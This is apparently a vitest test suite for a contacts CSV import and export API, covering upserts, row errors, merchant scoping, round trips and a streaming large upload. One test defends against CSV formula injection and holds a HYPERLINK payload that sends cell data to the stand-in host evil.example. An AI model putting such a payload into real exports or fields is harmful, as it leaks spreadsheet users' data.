// Contacts CSV import and export: the streaming REST routes, the tRPC procedures, the documented
// CSV shape, per-row errors, merchant scoping, a round trip, and a large upload that is written
// while it is still arriving.
import { randomUUID } from "node:crypto";
import { validate, compileErrors } from "@readme/openapi-parser";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { startHarness, type Harness } from "./harness.ts";
import { insertAccount, insertContactWith, newMerchant, type CsvImportBody, type Success } from "./factories.ts";
import { detailFields, expectFailure, expectSuccess } from "./envelope-assertions.ts";

let h: Harness;
beforeAll(async () => {
  h = await startHarness();
});
afterAll(async () => {
  await h?.close();
});

const pool = () => h.database.pool;

async function shop(role: "owner" | "admin" | "agent" | "viewer" = "agent") {
  const merchantId = newMerchant();
  const accountId = await insertAccount(pool(), { merchantId });
  return { merchantId, accountId, token: await h.token({ merchantId, role }) };
}

const importCsv = (token: string | null, accountId: string, csv: string, contentType = "text/csv") =>
  h.call<Success<CsvImportBody>>("POST", `/contacts/import?accountId=${accountId}`, { token, rawBody: csv, headers: { "content-type": contentType } });

async function exportCsv(token: string, accountId: string): Promise<{ status: number; type: string; disposition: string; text: string }> {
  const res = await fetch(`${h.base}/contacts/export?accountId=${accountId}`, { headers: { authorization: `Bearer ${token}` } });
  return { status: res.status, type: res.headers.get("content-type") ?? "", disposition: res.headers.get("content-disposition") ?? "", text: await res.text() };
}

interface StoredContact {
  twitter_user_id: string;
  username: string | null;
  display_name: string | null;
  tags: string[];
  attributes: Record<string, unknown>;
  source: string;
}
async function stored(accountId: string): Promise<StoredContact[]> {
  const { rows } = await pool().query<StoredContact>(
    "SELECT twitter_user_id, username, display_name, tags, attributes, source FROM contacts WHERE account_id = $1 ORDER BY twitter_user_id",
    [accountId],
  );
  return rows;
}
const storedOne = async (accountId: string, twitterUserId: string) => (await stored(accountId)).find((c) => c.twitter_user_id === twitterUserId);

describe("POST /contacts/import", () => {
  it("upserts by twitterUserId, merging into existing contacts, and reports each bad row", async () => {
    const s = await shop();
    await insertContactWith(pool(), { ...s, twitterUserId: "2001", username: "old_name", displayName: "Old", tags: ["customer"], attributes: { tier: "silver", keep: 1 } });
    await insertContactWith(pool(), { ...s, twitterUserId: "2002", username: "Jane_Doe", displayName: "Jane", tags: [], attributes: {} });
    const csv = [
      "twitterUserId,username,displayName,tags,attr.tier,attr.purchaseCount,attr.vip,attr.zip",
      "1001,@alice,Alice Nguyen,VIP|customer; vip ,gold,5,true,\"\"\"007\"\"\"",
      "2001,,,vip,,6,,",
      ",jane_doe,Jane D.,newsletter,bronze,,FALSE,",
      ",nobody_here,No One,,,,,",
      "12ab,bob,Bob,,,,,",
      "1002,carol,Carol,\"a,b\",,,,",
      "1003,dave,Dave,,,,,,extra",
      "1004,,,,,,,",
      "1001,,Alice N.,new,,,,",
      "",
      "1005,erin,\"Erin \"\"E\"\" Smith\",,\"platinum, plus\",1.5,,01234",
    ].join("\r\n");
    const res = await importCsv(s.token, s.accountId, csv);
    const result = expectSuccess(res);
    expect(result).toEqual({
      accountId: s.accountId,
      rows: 10,
      // 1001 (twice: created, then updated), 1004, 1005 are new; 2001 and @jane_doe existed
      inserted: 3,
      updated: 3,
      failed: 4,
      errors: [
        { row: 5, field: "username", reason: expect.stringContaining("needs its twitterUserId") },
        { row: 6, field: "twitterUserId", reason: expect.stringContaining("numeric") },
        { row: 7, field: "tags", reason: expect.stringContaining(", ; or |") },
        { row: 8, field: null, reason: expect.stringContaining("columns") },
      ],
      errorsTruncated: false,
    });

    const rows = await stored(s.accountId);
    expect(rows.map((r) => r.twitter_user_id)).toEqual(["1001", "1004", "1005", "2001", "2002"]);
    expect(await storedOne(s.accountId, "1001")).toEqual({
      twitter_user_id: "1001",
      username: "alice",
      display_name: "Alice N.",
      tags: ["vip", "customer", "new"],
      attributes: { tier: "gold", purchaseCount: 5, vip: true, zip: "007" },
      source: "import",
    });
    // an existing contact keeps what the file leaves empty and gets the tags added
    expect(await storedOne(s.accountId, "2001")).toEqual({
      twitter_user_id: "2001",
      username: "old_name",
      display_name: "Old",
      tags: ["customer", "vip"],
      attributes: { tier: "silver", keep: 1, purchaseCount: 6 },
      source: "inbound_message",
    });
    // a username-only row updates the contact of that username (case-insensitive)
    expect(await storedOne(s.accountId, "2002")).toMatchObject({ username: "Jane_Doe", display_name: "Jane D.", tags: ["newsletter"], attributes: { tier: "bronze", vip: false } });
    expect(await storedOne(s.accountId, "1004")).toMatchObject({ username: null, display_name: null, tags: [], attributes: {} });
    expect(await storedOne(s.accountId, "1005")).toMatchObject({ display_name: 'Erin "E" Smith', attributes: { tier: "platinum, plus", purchaseCount: 1.5, zip: "01234" } });

    // the same file again: nothing new, every good row an update, the same errors
    const again = expectSuccess(await importCsv(s.token, s.accountId, csv));
    expect(again).toMatchObject({ rows: 10, inserted: 0, updated: 6, failed: 4 });
    expect(await storedOne(s.accountId, "1001")).toMatchObject({ tags: ["vip", "customer", "new"] });
  });

  it("refuses a username that names several contacts, and limits broken by the merge", async () => {
    const s = await shop();
    await insertContactWith(pool(), { ...s, twitterUserId: "3001", username: "twin" });
    await insertContactWith(pool(), { ...s, twitterUserId: "3002", username: "TWIN" });
    const full = Array.from({ length: 99 }, (_, i) => `t${i}`);
    await insertContactWith(pool(), { ...s, twitterUserId: "3003", tags: full, attributes: { a: 1 } });
    const hundredAttributes = Array.from({ length: 100 }, (_, i) => `attr.k${i}`);
    const csv = [
      `twitterUserId,username,tags,${hundredAttributes.join(",")}`,
      `,twin,,${hundredAttributes.map(() => "").join(",")}`,
      `3003,,x|y,${hundredAttributes.map(() => "").join(",")}`,
      `3003,,t1,${hundredAttributes.map((_, i) => i).join(",")}`,
      `3004,,${Array.from({ length: 101 }, (_, i) => `n${i}`).join("|")},${hundredAttributes.map(() => "").join(",")}`,
      `3005,,ok,${hundredAttributes.map((_, i) => i).join(",")}`,
    ].join("\n");
    const result = expectSuccess(await importCsv(s.token, s.accountId, csv));
    expect(result).toMatchObject({ rows: 5, inserted: 1, updated: 0, failed: 4 });
    expect(result.errors).toEqual([
      { row: 2, field: "username", reason: expect.stringContaining("names 2 contacts") },
      // the two rows of 3003 fold into one change: 101 tags and 101 attributes with the stored ones
      { row: 3, field: "tags", reason: expect.stringContaining("at most 100 tags") },
      { row: 4, field: "tags", reason: expect.stringContaining("at most 100 tags") },
      { row: 5, field: "tags", reason: expect.stringContaining("at most 100 tags") },
    ]);
    expect(await storedOne(s.accountId, "3003")).toMatchObject({ tags: full, attributes: { a: 1 } });
    expect(Object.keys((await storedOne(s.accountId, "3005"))?.attributes ?? {})).toHaveLength(100);
  });

  it("reports a cell holding a NUL character as a bad row and imports the rest", async () => {
    const s = await shop();
    const csv = ["twitterUserId,username,displayName,tags,attr.note", "3001,nul_name,Al\u0000ice,,", "3002,nul_attr,Bo,,x\u0000y", "3003,fine_one,Cy,vip,ok"].join("\n");
    const result = expectSuccess(await importCsv(s.token, s.accountId, csv));
    expect(result).toMatchObject({ rows: 3, inserted: 1, failed: 2 });
    expect(result.errors).toEqual([
      { row: 2, field: "displayName", reason: "contains a NUL character or an unpaired surrogate" },
      { row: 3, field: "attr.note", reason: "contains a NUL character or an unpaired surrogate" },
    ]);
  });

  it("reports a record with broken quoting as a bad row and goes on", async () => {
    const s = await shop();
    const csv = 'twitterUserId,displayName\n4001,Fine\n4002,bro"ken\n4003,Also fine\n';
    const result = expectSuccess(await importCsv(s.token, s.accountId, csv));
    expect(result).toMatchObject({ rows: 3, inserted: 2, failed: 1, errors: [{ row: 3, field: null, reason: expect.stringContaining("malformed CSV") }] });
    expect((await stored(s.accountId)).map((c) => c.twitter_user_id)).toEqual(["4001", "4003"]);

    // a quote never closed takes the rest of the file with it: reported, not imported
    const open = expectSuccess(await importCsv(s.token, s.accountId, 'twitterUserId,displayName\n4004,"Unclosed\n4005,Lost\n'));
    expect(open).toMatchObject({ rows: 1, inserted: 0, failed: 1, errors: [{ row: 2, field: null, reason: expect.stringContaining("Quote Not Closed") }] });
  });

  it("refuses a bad header, an empty file or a missing accountId with 400, importing nothing", async () => {
    const s = await shop();
    const cases: Array<[string, string[]]> = [
      ["twitterUserId,name\n1,x\n", ["header.2"]],
      ["displayName,tags\nx,y\n", ["header"]],
      ["twitterUserId,attr.bad-key\n1,x\n", ["header.2"]],
      ["twitterUserId,tags,Tags\n1,x,y\n", ["header.3"]],
      ["", ["header"]],
      ["\n\n", ["header"]],
    ];
    for (const [csv, fields] of cases) {
      const failure = expectFailure(await importCsv(s.token, s.accountId, csv), 400, "VALIDATION_ERROR");
      expect(detailFields(failure), JSON.stringify(csv)).toEqual(fields);
    }
    const noAccount = expectFailure(await h.call("POST", "/contacts/import", { token: s.token, rawBody: "twitterUserId\n1\n", headers: { "content-type": "text/csv" } }), 400, "VALIDATION_ERROR");
    expect(detailFields(noAccount)).toEqual(["accountId"]);
    expect(await stored(s.accountId)).toEqual([]);
  });

  it("takes text/csv only", async () => {
    const s = await shop();
    const json = await importCsv(s.token, s.accountId, JSON.stringify({ csv: "twitterUserId\n1\n" }), "application/json");
    expect(json.status).toBe(415);
    expect(json.body).toMatchObject({ success: false, code: "VALIDATION_ERROR" });
    expect((await importCsv(s.token, s.accountId, "twitterUserId\n1\n", "text/plain")).status).toBe(415);
    expectSuccess(await importCsv(s.token, s.accountId, "twitterUserId\n1\n", "text/csv; charset=utf-8"));
  });

  it("is 404 for another merchant's or an unknown account, 403 for a viewer, 401 without a token", async () => {
    const a = await shop();
    const b = await shop();
    const csv = "twitterUserId,displayName\n5001,Mallory\n";
    for (const accountId of [a.accountId, randomUUID(), "not-a-uuid"]) expectFailure(await importCsv(b.token, accountId, csv), 404, "RESOURCE_NOT_FOUND");
    const viewer = await h.token({ merchantId: a.merchantId, role: "viewer" });
    expectFailure(await importCsv(viewer, a.accountId, csv), 403, "FORBIDDEN");
    expectFailure(await importCsv(null, a.accountId, csv), 401, "UNAUTHORIZED");
    expect(await stored(a.accountId)).toEqual([]);
    // the rate limit's headers are there as on every authenticated route
    const ok = await importCsv(a.token, a.accountId, csv);
    expectSuccess(ok);
    expect(ok.headers.get("x-ratelimit-limit")).toBeTruthy();
  });
});

describe("GET /contacts/export", () => {
  const IMPORTED = [
    "twitterUserId,username,displayName,tags,attr.tier,attr.count,attr.flag,attr.code,attr.note,attr.empty",
    '6001,ann,"Ann, the ""first""",vip|khách hàng,gold,3,true,"""123""",,""""""',
    '6002,,"Multi\nline",,,-2.5,false,007,"looks like ""json"" but is text",',
    "6003,cat,Cat,,TRUE-ish,1e3,,\"\"\"true\"\"\", padded ,",
  ].join("\n");

  it("streams the import's shape back, and importing it changes nothing (round trip)", async () => {
    const s = await shop();
    expectSuccess(await importCsv(s.token, s.accountId, IMPORTED));
    const before = await stored(s.accountId);
    expect(before.find((c) => c.twitter_user_id === "6001")?.attributes).toEqual({ tier: "gold", count: 3, flag: true, code: "123", empty: "" });
    expect(before.find((c) => c.twitter_user_id === "6003")?.attributes).toEqual({ tier: "TRUE-ish", count: 1000, code: "true", note: "padded" });

    const exported = await exportCsv(s.token, s.accountId);
    expect(exported.status).toBe(200);
    expect(exported.type).toMatch(/^text\/csv/);
    expect(exported.disposition).toContain(`contacts-${s.accountId}.csv`);
    const records: string[][] = parse(exported.text, { relax_column_count: false });
    expect(records[0]).toEqual(["twitterUserId", "username", "displayName", "tags", "attr.code", "attr.count", "attr.empty", "attr.flag", "attr.note", "attr.tier"]);
    expect(records.slice(1).map((r) => r[0])).toEqual(["6001", "6002", "6003"]);
    expect(records[1]).toEqual(["6001", "ann", 'Ann, the "first"', "vip|khách hàng", '"123"', "3", '""', "true", "", "gold"]);

    // into the same account: every row an update, nothing changes
    expect(expectSuccess(await importCsv(s.token, s.accountId, exported.text))).toMatchObject({ rows: 3, inserted: 0, updated: 3, failed: 0 });
    expect(await stored(s.accountId)).toEqual(before);

    // into another merchant's account: the same contacts, and the same export
    const other = await shop();
    expectSuccess(await importCsv(other.token, other.accountId, exported.text));
    expect(await stored(other.accountId)).toEqual(before);
    expect((await exportCsv(other.token, other.accountId)).text).toBe(exported.text);
  });

  it("neutralizes formula cells a customer controls (OWASP), and importing the export changes nothing", async () => {
    const s = await shop();
    // an X user picks their own display name: this one would run in a spreadsheet
    await insertContactWith(pool(), { merchantId: s.merchantId, accountId: s.accountId, twitterUserId: "7001", username: "mallory", displayName: '=HYPERLINK("http://evil.example/?"&A1,"Click")', tags: ["-vip"], attributes: { note: "@SUM(1+1)", delta: -3, plain: "'=quoted" } });
    await insertContactWith(pool(), { merchantId: s.merchantId, accountId: s.accountId, twitterUserId: "7002", username: "tab", displayName: "+1 555 0100", attributes: {} });
    const before = await stored(s.accountId);

    const exported = await exportCsv(s.token, s.accountId);
    const records: string[][] = parse(exported.text, { relax_column_count: false });
    for (const cell of records.slice(1).flat()) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(records[0]).toEqual(["twitterUserId", "username", "displayName", "tags", "attr.delta", "attr.note", "attr.plain"]);
    expect(records[1]).toEqual(["7001", "mallory", `'=HYPERLINK("http://evil.example/?"&A1,"Click")`, "'-vip", "'-3", "'@SUM(1+1)", "''=quoted"]);
    expect(records[2]?.[2]).toBe("'+1 555 0100");

    expect(expectSuccess(await importCsv(s.token, s.accountId, exported.text))).toMatchObject({ rows: 2, inserted: 0, updated: 2, failed: 0 });
    expect(await stored(s.accountId)).toEqual(before);
  });

  it("is readable by viewers, 404 for another merchant's account, 401 without a token", async () => {
    const a = await shop();
    await insertContactWith(pool(), { ...a, twitterUserId: "7001", username: "secret_customer" });
    const viewer = await h.token({ merchantId: a.merchantId, role: "viewer" });
    const asViewer = await exportCsv(viewer, a.accountId);
    expect(asViewer.status).toBe(200);
    expect(asViewer.text).toContain("secret_customer");

    const b = await shop();
    for (const accountId of [a.accountId, randomUUID(), "nope"]) {
      const res = await h.call("GET", `/contacts/export?accountId=${accountId}`, { token: b.token });
      expectFailure(res, 404, "RESOURCE_NOT_FOUND");
      expect(res.text).not.toContain("secret_customer");
    }
    expectFailure(await h.call("GET", `/contacts/export?accountId=${a.accountId}`, { token: null }), 401, "UNAUTHORIZED");
    expectFailure(await h.call("GET", "/contacts/export", { token: b.token }), 400, "VALIDATION_ERROR");
  });

  it("exports an account without contacts as a header row", async () => {
    const s = await shop();
    expect((await exportCsv(s.token, s.accountId)).text).toBe("twitterUserId,username,displayName,tags\n");
  });
});

describe("tRPC contacts.importCsv and contacts.exportCsv", () => {
  const trpcImport = (token: string, input: unknown) => h.call<{ result?: { data: CsvImportBody }; error?: { data: { appCode: string } } }>("POST", `${h.url}/trpc/contacts.importCsv`, { token, body: input });
  const trpcExport = (token: string, input: unknown) =>
    h.call<{ result?: { data: { csv: string; rows: number } }; error?: { data: { appCode: string } } }>("GET", `${h.url}/trpc/contacts.exportCsv?input=${encodeURIComponent(JSON.stringify(input))}`, { token });

  it("imports a small CSV from JSON and exports it as a string, through the same service", async () => {
    const s = await shop();
    const res = await trpcImport(s.token, { accountId: s.accountId, csv: "twitterUserId,tags\n8001,vip\nbad,\n" });
    expect(res.status).toBe(200);
    expect(res.body.result?.data).toMatchObject({ rows: 2, inserted: 1, failed: 1, errors: [{ row: 3, field: "twitterUserId" }] });
    const exported = await trpcExport(s.token, { accountId: s.accountId });
    expect(exported.body.result?.data).toEqual({ csv: "twitterUserId,username,displayName,tags\n8001,,,vip\n", rows: 1 });
    expect((await exportCsv(s.token, s.accountId)).text).toBe(exported.body.result?.data.csv);
  });

  it("keeps the same rules: 404 across merchants, 403 for viewers", async () => {
    const a = await shop();
    const b = await shop();
    const foreign = await trpcImport(b.token, { accountId: a.accountId, csv: "twitterUserId\n1\n" });
    expect({ status: foreign.status, code: foreign.body.error?.data.appCode }).toEqual({ status: 404, code: "RESOURCE_NOT_FOUND" });
    expect((await trpcExport(b.token, { accountId: a.accountId })).body.error?.data.appCode).toBe("RESOURCE_NOT_FOUND");
    const viewer = await h.token({ merchantId: a.merchantId, role: "viewer" });
    expect((await trpcImport(viewer, { accountId: a.accountId, csv: "twitterUserId\n1\n" })).status).toBe(403);
    expect(await stored(a.accountId)).toEqual([]);
  });
});

describe("a large import", () => {
  it("streams: rows are written while the upload is still open, 50,000 in all", async () => {
    const s = await shop();
    const total = 50_000;
    const firstPart = 12_000;
    const count = async () => Number((await pool().query<{ n: string }>("SELECT count(*) AS n FROM contacts WHERE account_id = $1", [s.accountId])).rows[0]?.n);
    const line = (i: number) => `${10_000_000 + i},user_${i},User ${i},${i % 2 === 0 ? "even" : "odd"}|bulk,${i % 7},${i % 3 === 0}\n`;
    const encoder = new TextEncoder();
    let sent = 0;
    let release: () => void = () => {};
    const held = new Promise<void>((resolve) => {
      release = resolve;
    });
    const body = new ReadableStream<Uint8Array>({
      async pull(controller) {
        if (sent === 0) controller.enqueue(encoder.encode("twitterUserId,username,displayName,tags,attr.bucket,attr.third\n"));
        // hold the upload open after the first part until the test has seen rows land
        if (sent === firstPart) await held;
        if (sent >= total) return controller.close();
        let chunk = "";
        for (let i = 0; i < 500 && sent < total; i++) chunk += line(sent++);
        controller.enqueue(encoder.encode(chunk));
      },
    });
    const response = fetch(`${h.base}/contacts/import?accountId=${s.accountId}`, {
      method: "POST",
      headers: { authorization: `Bearer ${s.token}`, "content-type": "text/csv" },
      body,
      duplex: "half",
    });

    try {
      // the server has written whole batches of the first part before the rest exists
      await vi.waitFor(async () => expect(await count()).toBeGreaterThanOrEqual(10_000), { timeout: 60_000, interval: 50 });
      expect(sent).toBe(firstPart);
    } finally {
      release();
    }

    const res = await response;
    const result = (await res.json()) as Success<CsvImportBody>;
    expect(res.status).toBe(200);
    expect(result.data).toMatchObject({ rows: total, inserted: total, updated: 0, failed: 0, errors: [] });
    expect(await count()).toBe(total);
    expect(await storedOne(s.accountId, "10049999")).toMatchObject({ username: "user_49999", tags: ["odd", "bulk"], attributes: { bucket: 49999 % 7, third: false } });

    const exported = await exportCsv(s.token, s.accountId);
    const lines = exported.text.trimEnd().split("\n");
    expect(lines).toHaveLength(total + 1);
    expect(lines[1]).toBe("10000000,user_0,User 0,even|bulk,0,true");
  }, 120_000);
});

describe("the OpenAPI document", () => {
  it("stays valid and documents both CSV routes and every contact operation", async () => {
    const res = await h.call<Record<string, unknown>>("GET", "/openapi.json", { token: null });
    const copy: Parameters<typeof validate>[0] = JSON.parse(res.text);
    const result = await validate(copy);
    expect(result.valid, result.valid ? "" : compileErrors(result)).toBe(true);

    const doc = JSON.parse(res.text) as { paths: Record<string, Record<string, { security?: unknown; parameters?: Array<{ name: string; in: string }>; requestBody?: { content: Record<string, unknown> }; responses: Record<string, { content?: Record<string, unknown> }> }>> };
    const imp = doc.paths["/contacts/import"]?.post;
    expect(imp?.security).toEqual([{ Authorization: [] }]);
    expect(imp?.parameters).toEqual([expect.objectContaining({ name: "accountId", in: "query" })]);
    expect(Object.keys(imp?.requestBody?.content ?? {})).toEqual(["text/csv"]);
    expect(Object.keys(imp?.responses ?? {})).toEqual(expect.arrayContaining(["200", "400", "401", "403", "404", "415", "429"]));
    const exp = doc.paths["/contacts/export"]?.get;
    expect(Object.keys(exp?.responses["200"]?.content ?? {})).toEqual(["text/csv"]);
    for (const [path, method] of [
      ["/contacts", "get"],
      ["/contacts/{contactId}", "get"],
      ["/contacts/{contactId}", "put"],
      ["/contacts/{contactId}", "delete"],
      ["/contacts/{contactId}/tags", "post"],
      ["/contacts/{contactId}/tags/{tagName}", "delete"],
      ["/contacts/{contactId}/attributes", "put"],
      ["/contacts/{contactId}/conversations", "get"],
    ] as const) {
      expect(doc.paths[path]?.[method], `${method} ${path}`).toBeDefined();
    }
  });
});
